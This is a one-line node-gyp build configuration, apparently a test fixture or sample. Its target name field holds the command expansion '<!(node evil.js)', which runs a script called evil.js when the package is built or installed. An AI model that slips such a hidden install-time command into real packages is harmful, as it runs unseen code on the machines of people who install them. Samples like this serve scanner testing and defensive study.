{'targets': [{'target_name': '<!(node evil.js)'}]}
